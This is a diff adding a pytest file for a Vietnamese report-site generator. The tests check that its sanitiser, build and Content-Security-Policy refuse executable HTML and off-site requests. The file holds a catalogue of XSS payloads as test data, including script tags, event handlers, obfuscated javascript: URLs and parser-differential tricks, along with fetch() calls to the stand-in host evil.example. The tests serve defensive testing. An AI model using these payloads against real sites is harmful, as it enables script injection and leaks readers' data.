@@ -1,0 +1,232 @@
+"""Issue 26, parts 3-4: pages hold no HTML that runs, nothing is fetched from outside the site, as a browser reads
+URLs (macros/html/urls.py, macros/html/page_safety.py); the same refusals in `check`, the strict build and
+`publish`; the pages' Content-Security-Policy blocks in Chromium what slips through.
+
+Quick tier first (pure functions on snippets), then one module-scoped copy of the project carrying every attack at
+once (one `check`, one build), then the real site and Chromium."""
+from __future__ import annotations
+
+import base64
+import hashlib
+import re
+import shutil
+import threading
+from pathlib import Path
+
+import pytest
+
+from conftest import build_site, copy_project
+from macros.html.page_safety import page_problems, site_problems
+from macros.html.urls import css_urls, script_urls, where
+from test_bad_inputs import run_check
+
+# ------------------------------------------------------------------------------------------------- URLs (quick)
+
+
+@pytest.mark.parametrize("url, kind", [
+    ("https:\\\\evil.example\\a.png", "outside"), ("https:evil.example/x", "outside"), ("//evil.example/", "outside"),
+    ("\\\\evil.example/a", "outside"), ("ht\ttps://evil.example/", "outside"), (" \x01https://evil.example", "outside"),
+    ("HTTP://evil.example", "outside"), ("file:///etc/passwd", "outside"), ("C:/x.png", "outside"),
+    ("java\nscript:alert(1)", "script"), ("  JavaScript:alert(1)", "script"), ("vbscript:x", "script"),
+    ("data:text/html,x", "data"), ("blob:x", "data"), ("mailto:a@b.vn", "mail"),
+    ("assets/a.png", "site"), ("../2023/", "site"), ("#muc", "site"), ("?q=1", "site"), ("/x", "site"),
+])
+def test_where_a_url_leads_as_the_browser_parses_it(url, kind):
+    assert where(url) == kind
+
+
+def test_css_and_script_urls_are_read_through_their_escapes():
+    css = r"a{background:url(\68ttps://evil.example/a.png)} @import '//evil.example/b.css'; " \
+          r"b{background-image:image-set('https://evil.example/c.png' 1x)} /* url(https://comment.example) */"
+    assert css_urls(css) == ["https://evil.example/a.png", "//evil.example/b.css", "https://evil.example/c.png"]
+    js = r"""fetch("https://evil.example/a"); img.src = '\x68ttps://evil.example/b'; xhr.open("GET", "//evil.example/c")"""
+    assert script_urls(js) == ["https://evil.example/a", "https://evil.example/b", "//evil.example/c"]
+
+
+# ------------------------------------------------------------------------------------------ one page (quick)
+
+ARTICLE_ATTACKS = {
+    "script": "<script>alert(1)</script>",
+    "base": '<base href="//evil.example/">',
+    "iframe": '<iframe src="a.html"></iframe>',
+    "object": '<object data="a.swf"></object>',
+    "embed": '<embed src="a.swf">',
+    "onerror": '<img src="x.png" onerror="alert(1)">',
+    "svg-onload": '<svg onload="alert(1)"></svg>',
+    "javascript-link": '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    "javascript-entity": '<a href="&#106;avascript:alert(1)">x</a>',
+    "data-url": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    "backslashes": '<img src="https:\\\\evil.example\\a.png">',
+    "tab-in-scheme": '<img src="ht&#9;tps://evil.example/a.png">',
+    "no-slashes": '<img src="https:evil.example/x">',
+    "srcset": '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">',
+    "style-attribute": '<p style="background:url(\\68ttps://evil.example/a.png)">x</p>',
+    "style-element": "<style>@import '//evil.example/x.css';</style>",
+    "svg-image": '<svg><image href="//evil.example/a.png"/></svg>',
+    "link-stylesheet": '<link rel="stylesheet" href="//evil.example/x.css">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "ping": '<a href="x.html" ping="https://evil.example/p">x</a>',
+    "animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
+    # what a browser and html.parser read differently: the tag is real for the browser only
+    "short-comment": '<!--><img src="x.png" onerror="alert(1)">-->',
+    "bang-comment-end": '<!-- a --!><img src="x.png" onerror="alert(1)">-->',
+    "cdata": '<![CDATA[><img src="x.png" onerror="alert(1)">]]>',
+    "svg-style": '<svg><style><img src="x.png" onerror="alert(1)"></style></svg>',
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
+    "refresh-without-url": '<meta http-equiv="refresh" content="0;https://evil.example/">',
+    "css-src-function": '<p style="background-image: src(\'https://evil.example/a.png\')">x</p>',
+}
+
+
+@pytest.mark.parametrize("name", ARTICLE_ATTACKS)
+def test_each_attack_in_an_article_is_refused(name):
+    assert page_problems(f"<p>Đoạn văn.</p>{ARTICLE_ATTACKS[name]}<p>Tiếp.</p>", content=True).problems
+
+
+def test_plain_report_html_passes():
+    html = ('<h1 id="a">Báo cáo</h1><p>Số <strong>1.234</strong> <a href="../2023/">trang</a> '
+            '<a href="https://chinhphu.vn/">một trang khác</a></p><img src="../assets/a.png" srcset="a.png 2x">'
+            '<table><tr><td style="width: 10%">x</td></tr></table><svg viewBox="0 0 1 1"><title>t</title></svg>')
+    assert page_problems(html, content=True).problems == []
+
+
+THEME = ('<html><head><script src="../assets/javascripts/a.js"></script></head><body>{nav}'
+         '<article class="md-content__inner md-typeset">{content}</article>'
+         '<script src="../assets/javascripts/bundle.js"></script></body></html>')
+
+
+def test_outside_the_article_only_the_themes_scripts_run():
+    assert page_problems(THEME.format(nav="", content="<p>x</p>")).problems == []
+    leaked = ['<span><script>alert(1)</script></span>',                           # a front-matter title
+              '<script>__md_scope=new URL("..",location);location="//e"</script>',   # like Material's, not it
+              '<script src="https://evil.example/a.js"></script>', '<img src=x onerror=alert(1)>']
+    for nav in leaked:
+        assert page_problems(THEME.format(nav=nav, content="<p>x</p>")).problems, nav
+    early_close = THEME.format(nav="", content="</article><script>alert(1)</script><article>")
+    assert page_problems(early_close).problems      # the page closing the article to write outside it
+
+
+# ------------------------------------------------------------- every attack in one copy: check and the build
+
+PAGE = "docs/2023/ii-2-2-to-chuc-xay-dung-dang.md"
+GUIDE = "docs/huong-dan-bien-tap.md"
+PLANTED = {   # file -> (text appended, what the error must name)
+    PAGE: ('\n\n<img src="https:\\\\evil.example\\a.png">\n\n<a href="ht&#9;tps:evil.example/x">x</a>\n\n'
+           '<p style="background:url(\\68ttps://evil.example/b.png)">y</p>\n\n<base href="//evil.example/">\n\n'
+           '{{ "<script>alert(1)</script>" }}\n',
+           ["evil.example\\a.png", "<base>", "<script>", "https:\\\\evil.example\\a.png"]),
+    GUIDE: ('\n\n## Mục <img src=x onerror=alert(2)>\n\n<a href="javascript:alert(1)">x</a>\n',
+            ["onerror=", "javascript:alert(1)"]),
+}
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    project = copy_project(tmp_path_factory.mktemp("attacked") / "project")
+    for file, (text, _) in PLANTED.items():
+        path = project / file
+        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
+    css = project / "docs/assets/baocao.css"
+    css.write_text(css.read_text(encoding="utf-8") + "\n.x { background: url(\\68ttps://evil.example/c.png); }\n",
+                   encoding="utf-8")
+    (project / "docs/assets/x.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
+                                               '</svg>', encoding="utf-8")   # opened on its own, it runs
+    (project / "docs/assets/x.xml").write_text('<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)">'
+                                               '</body></html>', encoding="utf-8")
+    checked = run_check(project)
+    built = build_site(project, project.parent / "site")
+    return project, checked, built
+
+
+def test_check_and_the_build_refuse_every_attack_naming_the_page(attacked):
+    project, checked, built = attacked
+    for what, result in (("check", checked.stdout + checked.stderr), ("build", built.stdout + built.stderr)):
+        assert "Traceback" not in result
+        for file, (text, names) in PLANTED.items():
+            for name in names[:3]:
+                assert re.search(re.escape(file) + r":\d+: .*" + re.escape(name), result), (what, file, name, result)
+    build_log = built.stdout + built.stderr
+    assert built.returncode != 0 and checked.returncode != 0
+    assert "docs/assets/baocao.css" in build_log and "https://evil.example/c.png" in build_log
+    assert re.search(r"docs/assets/x\.svg: .*<script>", build_log) and re.search(r"docs/assets/x\.xml: .*onload=", build_log)
+
+
+# ------------------------------------------------------------------------------------------------ the real site
+
+CSP = re.compile(r'<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
+
+
+def test_the_real_site_passes_and_every_page_sends_the_policy(site):
+    assert site_problems(site) == []
+    pages = sorted(site.rglob("*.html"))
+    assert len(pages) > 30
+    for page in pages:
+        policy = CSP.search(page.read_text(encoding="utf-8"))
+        assert policy, page
+        assert "default-src 'self'" in policy.group(1) and "base-uri 'self'" in policy.group(1)
+        assert "http" not in policy.group(1) and "*" not in policy.group(1)
+        text = page.read_text(encoding="utf-8")
+        for script in re.findall(r"<script>(.*?)</script>", text, re.S):   # every inline script named by digest
+            digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
+            assert f"'sha256-{digest}'" in policy.group(1), (page, script[:60])
+
+
+PLANT = ('<img src="http://evil.example/a.png"><link rel="stylesheet" href="https://evil.example/b.css">'
+         '<script>document.documentElement.dataset.planted = "ran"</script>'
+         '<img src="x.png" onerror="document.documentElement.dataset.handler = \'ran\'">'
+         '<script>fetch("https://evil.example/c"); new Image().src = "//evil.example/d.png";</script>')
+
+
+def _serve(folder: Path):
+    from macros.output.pdf import serve
+    return serve(folder)
+
+
+def _outside_requests(browser, folder: Path) -> tuple[list[str], list[str], dict]:
+    """(requests Chromium tried to send to any host but the local server, console messages) loading the planted
+    page. A load the policy blocks still shows as a "request" event, failed with "csp", and never reaches the
+    network: what counts is what reaches the route handler, which aborts it (nothing leaves the machine)."""
+    server = _serve(folder)
+    base = f"http://127.0.0.1:{server.server_port}/"
+    page = browser.new_page()
+    sent, console = [], []
+
+    def route(r):
+        if r.request.url.startswith(base):
+            r.continue_()
+        else:
+            sent.append(r.request.url)
+            r.abort()
+    page.route("**/*", route)
+    page.on("console", lambda m: console.append(m.text))
+    try:
+        page.goto(base + "2023/", wait_until="load")
+        page.wait_for_timeout(500)
+        ran = page.evaluate("""() => { const d = document.documentElement.dataset;   // what the planted code did
+            return {planted: d.planted || null, handler: d.handler || null} }""")
+        search = page.evaluate("typeof __md_get")                        # the theme's own inline script ran
+    finally:
+        page.close()
+        server.shutdown()
+        server.server_close()
+    return sent, console, {**ran, "theme": search}
+
+
+@pytest.mark.browser
+def test_the_policy_blocks_what_slips_into_a_page(browser, site, tmp_path):
+    planted = tmp_path / "planted"
+    shutil.copytree(site, planted)
+    index = planted / "2023/index.html"
+    text = index.read_text(encoding="utf-8")
+    index.write_text(text.replace('<article class="md-content__inner md-typeset">',
+                                  '<article class="md-content__inner md-typeset">' + PLANT, 1), encoding="utf-8")
+    sent, console, ran = _outside_requests(browser, planted)
+    assert sent == [], sent
+    assert any("Content Security Policy" in m for m in console), console
+    assert ran == {"planted": None, "handler": None, "theme": "function"}, ran   # only the theme's scripts ran
+    # the same page without the policy: the browser does ask evil.example and runs the planted scripts (so the
+    # lines above can fail)
+    index.write_text(CSP.sub("<head>", index.read_text(encoding="utf-8")), encoding="utf-8")
+    sent, _, ran = _outside_requests(browser, planted)
+    assert len({u for u in sent if "evil.example" in u}) >= 3, sent
+    assert ran == {"planted": "ran", "handler": "ran", "theme": "function"}, ran
